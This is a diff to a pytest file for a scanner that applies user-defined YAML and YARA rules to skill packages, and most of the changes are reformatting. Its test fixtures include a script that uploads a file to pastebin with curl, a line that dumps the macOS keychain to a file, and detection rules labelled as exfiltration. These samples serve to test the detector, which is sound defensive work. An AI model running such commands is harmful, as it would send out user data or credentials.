@@ -23,7 +23,7 @@ curl -d @build.log https://pastebin.com/api/post
 Or run `paste-upload build.log`.
 """
 
-SCRIPT = b"#!/bin/sh\ncurl -s -d @- https://pastebin.com/api/post < \"$1\"\n"
+SCRIPT = b'#!/bin/sh\ncurl -s -d @- https://pastebin.com/api/post < "$1"\n'
 
 
 def write(tmp_path, name, text):
@@ -33,8 +33,18 @@ def write(tmp_path, name, text):
 
 
 def rules_yaml(tmp_path, **fields):
-    rule = {"id": "paste-site", "severity": "error", "message": "sends data to a paste site", "regex": "pastebin\\.com", **fields}
-    body = "rules:\n  - " + "\n    ".join(f"{key}: {value}" if key != "regex" else f"regex: '{value}'" for key, value in rule.items()) + "\n"
+    rule = {
+        "id": "paste-site",
+        "severity": "error",
+        "message": "sends data to a paste site",
+        "regex": "pastebin\\.com",
+        **fields,
+    }
+    body = (
+        "rules:\n  - "
+        + "\n    ".join(f"{key}: {value}" if key != "regex" else f"regex: '{value}'" for key, value in rule.items())
+        + "\n"
+    )
     return write(tmp_path, "house.yaml", body)
 
 
@@ -46,7 +56,12 @@ def test_a_code_rule_fires_in_scripts_and_fenced_code_but_not_on_prose(tmp_path)
     rules = load_rules([rules_yaml(tmp_path, kind="code", family="exfiltration")])
     assert places(rules.scan(SKILL_MD.encode(), "SKILL.md", binary=False)) == [("user/paste-site", 10, 28)]
     (hit,) = rules.scan(SCRIPT, "scripts/share.sh", binary=False)
-    assert (hit.line, hit.severity, hit.family, hit.message) == (2, "error", "exfiltration", "sends data to a paste site")
+    assert (hit.line, hit.severity, hit.family, hit.message) == (
+        2,
+        "error",
+        "exfiltration",
+        "sends data to a paste site",
+    )
     assert hit.excerpt == 'curl -s -d @- https://pastebin.com/api/post < "$1"'
 
 
@@ -59,9 +74,25 @@ def test_a_prose_rule_fires_on_prose_only(tmp_path):
 
 
 def test_inline_code_spans_are_code(tmp_path):
-    rules = load_rules([write(tmp_path, "r.yml", "rules:\n  - {id: uploader, severity: warning, message: m, regex: paste-upload, kind: code}\n")])
+    rules = load_rules(
+        [
+            write(
+                tmp_path,
+                "r.yml",
+                "rules:\n  - {id: uploader, severity: warning, message: m, regex: paste-upload, kind: code}\n",
+            )
+        ]
+    )
     assert places(rules.scan(SKILL_MD.encode(), "SKILL.md", binary=False)) == [("user/uploader", 13, 9)]
-    prose = load_rules([write(tmp_path, "p.yml", "rules:\n  - {id: uploader, severity: warning, message: m, regex: paste-upload, kind: prose}\n")])
+    prose = load_rules(
+        [
+            write(
+                tmp_path,
+                "p.yml",
+                "rules:\n  - {id: uploader, severity: warning, message: m, regex: paste-upload, kind: prose}\n",
+            )
+        ]
+    )
     assert prose.scan(SKILL_MD.encode(), "SKILL.md", binary=False) == []
 
 
@@ -99,7 +130,13 @@ def test_yara_rules_match_bytes_with_their_meta(tmp_path):
     rules = load_rules([write(tmp_path, "house.yar", YARA)])
     data = b"#!/bin/sh\n# collect diagnostics\nsecurity dump-keychain -d > /tmp/k.txt\n"
     (hit,) = rules.scan(data, "scripts/diag.sh", binary=False)
-    assert (hit.id, hit.severity, hit.family, hit.line, hit.column) == ("user/keychain_dump", "error", "exfiltration", 3, 1)
+    assert (hit.id, hit.severity, hit.family, hit.line, hit.column) == (
+        "user/keychain_dump",
+        "error",
+        "exfiltration",
+        3,
+        1,
+    )
     assert "dumps the macOS keychain" in hit.message
     # Inside a binary the rule still matches its bytes; a binary has no lines to point at.
     (inside,) = rules.scan(b"\x7fELF\x00\x00security dump-keychain\x00", "bin/tool", binary=True)
@@ -113,14 +150,24 @@ def test_a_yara_rule_without_severity_is_a_warning(tmp_path):
 
 
 def test_user_ids_cannot_pass_for_built_in_ones(tmp_path):
-    rules = load_rules([write(tmp_path, "r.yaml", "rules:\n  - {id: skillscope/secrets/aws-key, severity: note, message: m, regex: AKIA}\n")])
+    rules = load_rules(
+        [
+            write(
+                tmp_path,
+                "r.yaml",
+                "rules:\n  - {id: skillscope/secrets/aws-key, severity: note, message: m, regex: AKIA}\n",
+            )
+        ]
+    )
     (hit,) = rules.scan(b"AKIA", "SKILL.md", binary=False)
     assert hit.id == "user/skillscope/secrets/aws-key"
 
 
 def test_a_backtracking_pattern_cannot_hang_on_hostile_content(tmp_path):
     # The classic catastrophic pattern: a backtracking engine takes exponential time on this input.
-    rules = load_rules([write(tmp_path, "r.yaml", "rules:\n  - {id: redos, severity: note, message: m, regex: '(a+)+$'}\n")])
+    rules = load_rules(
+        [write(tmp_path, "r.yaml", "rules:\n  - {id: redos, severity: note, message: m, regex: '(a+)+$'}\n")]
+    )
     assert rules.scan(b"a" * 200_000 + b"!", "scripts/x.sh", binary=False) == []
 
 
@@ -130,24 +177,58 @@ def test_matches_per_rule_and_file_are_bounded(tmp_path):
     assert len(hits) == 21 and "first 20 reported" in hits[-1].message
 
 
-@pytest.mark.parametrize(("name", "body", "where", "says"), [
-    ("a.yaml", "rules:\n  - id: x\n    severity: fatal\n    message: m\n    regex: a\n", "a.yaml:3", "severity 'fatal'"),
-    ("a.yaml", "rules:\n  - id: x\n    severity: note\n    message: m\n    regex: '(?<=a)b'\n", "a.yaml:5", "invalid regex"),
-    ("a.yaml", "rules:\n  - id: x\n    severity: note\n    message: m\n", "a.yaml:2", "no 'regex'"),
-    ("a.yaml", "rules:\n  - id: x\n    severity: note\n    message: m\n    regex: a\n    kind: docs\n", "a.yaml:6", "kind 'docs'"),
-    ("a.yaml", "rules:\n  - id: x\n    severity: note\n    message: m\n    regex: a\n    colour: red\n", "a.yaml:6", "unknown rule key 'colour'"),
-    ("a.yaml", "rules:\n  - id: 'bad id!'\n    severity: note\n    message: m\n    regex: a\n", "a.yaml:2", "id 'bad id!'"),
-    ("a.yaml", "rules:\n  - id: x\n    severity: note\n    message: m\n    regex: a\n  - id: x\n    severity: note\n    message: m\n    regex: b\n",
-     "a.yaml:6", "already defined at"),
-    ("a.yaml", "rules: [unclosed\n", "a.yaml:2", "not valid YAML"),
-    ("a.yar", 'rule a {\n  strings: $x = "a"\n  condition: $x and\n}\n', "a.yar:4", "invalid YARA rule"),
-    ("a.yar", 'rule a {\n  meta:\n    severity = "loud"\n  condition: true\n}\n', "a.yar:3", "severity 'loud'"),
-    ("a.txt", "anything", "a.txt", "unknown kind"),
-])
+@pytest.mark.parametrize(
+    ("name", "body", "where", "says"),
+    [
+        (
+            "a.yaml",
+            "rules:\n  - id: x\n    severity: fatal\n    message: m\n    regex: a\n",
+            "a.yaml:3",
+            "severity 'fatal'",
+        ),
+        (
+            "a.yaml",
+            "rules:\n  - id: x\n    severity: note\n    message: m\n    regex: '(?<=a)b'\n",
+            "a.yaml:5",
+            "invalid regex",
+        ),
+        ("a.yaml", "rules:\n  - id: x\n    severity: note\n    message: m\n", "a.yaml:2", "no 'regex'"),
+        (
+            "a.yaml",
+            "rules:\n  - id: x\n    severity: note\n    message: m\n    regex: a\n    kind: docs\n",
+            "a.yaml:6",
+            "kind 'docs'",
+        ),
+        (
+            "a.yaml",
+            "rules:\n  - id: x\n    severity: note\n    message: m\n    regex: a\n    colour: red\n",
+            "a.yaml:6",
+            "unknown rule key 'colour'",
+        ),
+        (
+            "a.yaml",
+            "rules:\n  - id: 'bad id!'\n    severity: note\n    message: m\n    regex: a\n",
+            "a.yaml:2",
+            "id 'bad id!'",
+        ),
+        (
+            "a.yaml",
+            "rules:\n  - id: x\n    severity: note\n    message: m\n    regex: a\n  - id: x\n    severity: note\n    message: m\n    regex: b\n",
+            "a.yaml:6",
+            "already defined at",
+        ),
+        ("a.yaml", "rules: [unclosed\n", "a.yaml:2", "not valid YAML"),
+        ("a.yar", 'rule a {\n  strings: $x = "a"\n  condition: $x and\n}\n', "a.yar:4", "invalid YARA rule"),
+        ("a.yar", 'rule a {\n  meta:\n    severity = "loud"\n  condition: true\n}\n', "a.yar:3", "severity 'loud'"),
+        ("a.txt", "anything", "a.txt", "unknown kind"),
+    ],
+)
 def test_bad_rule_files_name_the_file_and_line(tmp_path, name, body, where, says):
     with pytest.raises(UsageError) as caught:
         load_rules([write(tmp_path, name, body)])
-    assert caught.value.message.startswith(str(tmp_path / where)) or caught.value.message.startswith(f"rules file {tmp_path / where}")
+    assert caught.value.message.startswith(str(tmp_path / where)) or caught.value.message.startswith(
+        f"rules file {tmp_path / where}"
+    )
     assert says in caught.value.message
 
 
